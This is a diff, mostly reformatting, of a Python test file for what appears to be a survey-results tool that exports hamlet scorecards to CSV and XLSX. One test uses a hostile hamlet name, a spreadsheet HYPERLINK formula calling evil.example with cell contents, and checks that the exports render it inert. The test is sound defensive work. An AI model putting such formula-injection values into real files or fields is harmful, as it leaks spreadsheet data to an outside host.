@@ -1,4 +1,5 @@
 """Rounds and trends, small-cell suppression, and the export files."""
+
 import io
 import tempfile
 from datetime import date
@@ -73,8 +74,9 @@ def test_cells_under_five_households_are_suppressed_and_say_so():
 def _results():
     records = [household("AP01", tt_57="co") for _ in range(5)] + [household("AP02", tt_57="khong") for _ in range(5)]
     records += [assessment("AP01"), assessment("AP02", team=False)]
-    hamlets = hamlet_rows(("AP01", 5, square(107.30, 10.90, 0.01), True), ("AP02", 5, square(107.31, 10.90, 0.01),
-                                                                          False))
+    hamlets = hamlet_rows(
+        ("AP01", 5, square(107.30, 10.90, 0.01), True), ("AP02", 5, square(107.31, 10.90, 0.01), False)
+    )
     return compute(records, hamlets), hamlets_frame(hamlets)
 
 
@@ -132,10 +134,11 @@ def test_a_hamlet_name_that_looks_like_a_formula_is_inert_in_csv_and_xlsx():
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Ấp")'
     text = exports.csv_bytes(results.rows, {"AP01": hostile}).decode("utf-8-sig")
     assert "'=HYPERLINK" in text
-    assert ',=HYPERLINK' not in text and ',"=HYPERLINK' not in text
+    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
     summary = results.scorecard_summary.assign(name=hostile)
-    book = load_workbook(io.BytesIO(exports.xlsx_bytes(results.rows, results.scorecard, summary, results.coverage,
-                                                        {"AP01": hostile})))
+    book = load_workbook(
+        io.BytesIO(exports.xlsx_bytes(results.rows, results.scorecard, summary, results.coverage, {"AP01": hostile}))
+    )
     cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
     hostile_cells = [c for c in cells if "HYPERLINK" in c.value]
     assert hostile_cells, "the hostile name should appear in the workbook"
@@ -143,10 +146,14 @@ def test_a_hamlet_name_that_looks_like_a_formula_is_inert_in_csv_and_xlsx():
 
 
 def test_stored_result_tables_come_back_with_the_same_values():
-    frame = pd.DataFrame({
-        "hamlet": ["AP01", None, 'Ấp "Phú Dũng"\nmới'], "value": [66.67, float("nan"), 0.0],
-        "met": [True, False, None], "n_units": [6, 0, 3],
-    })
+    frame = pd.DataFrame(
+        {
+            "hamlet": ["AP01", None, 'Ấp "Phú Dũng"\nmới'],
+            "value": [66.67, float("nan"), 0.0],
+            "met": [True, False, None],
+            "n_units": [6, 0, 3],
+        }
+    )
 
     back = exports.tables_unpack(exports.tables_pack({"rows": frame, "empty": frame.iloc[:0], "none": None}))
 
